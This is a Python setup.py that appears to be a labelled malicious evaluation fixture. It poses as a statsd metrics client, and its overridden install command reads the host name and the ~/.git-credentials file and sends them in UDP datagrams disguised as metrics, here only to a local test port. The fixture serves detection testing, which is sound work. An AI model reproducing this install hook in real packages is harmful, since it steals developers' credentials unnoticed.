# Evaluation fixture (malicious): exfiltration in UDP datagrams sent with
# sendto() on an unconnected socket (no connect() call at all), disguised
# as statsd metrics.  An overridden install command sends the host name and
# the git credential store, one line per datagram.  Acts only inside the
# evaluation: 127.0.0.1 at SP_SINK_UDP_PORT.
import os
import socket

from setuptools import setup
from setuptools.command.install import install


class Install(install):
    def run(self):
        port = int(os.environ.get("SP_SINK_UDP_PORT", "0"))
        if port and os.environ.get("SP_TOKEN"):
            lines = [socket.gethostname()]
            try:
                with open(os.path.expanduser("~/.git-credentials")) as f:
                    lines += f.read().splitlines()
            except OSError:
                pass
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            for line in lines:
                try:
                    s.sendto(("install.count:1|c|#%s" % line).encode(), ("127.0.0.1", port))
                except OSError:
                    pass
            s.close()
        super().run()


setup(
    name="udp-exfil",
    version="5.0.1",
    description="Metrics client for statsd",
    py_modules=["statsd_lite"],
    cmdclass={"install": Install},
)
